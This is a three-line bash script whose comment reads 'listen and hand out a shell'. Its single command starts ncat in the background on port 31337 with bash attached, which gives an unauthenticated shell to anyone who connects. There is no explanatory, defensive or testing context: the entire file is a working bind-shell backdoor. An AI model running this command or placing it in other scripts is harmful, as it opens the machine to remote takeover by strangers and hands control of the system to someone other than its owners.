#!/bin/bash
# listen and hand out a shell
ncat -k -l -p 31337 -e /bin/bash &
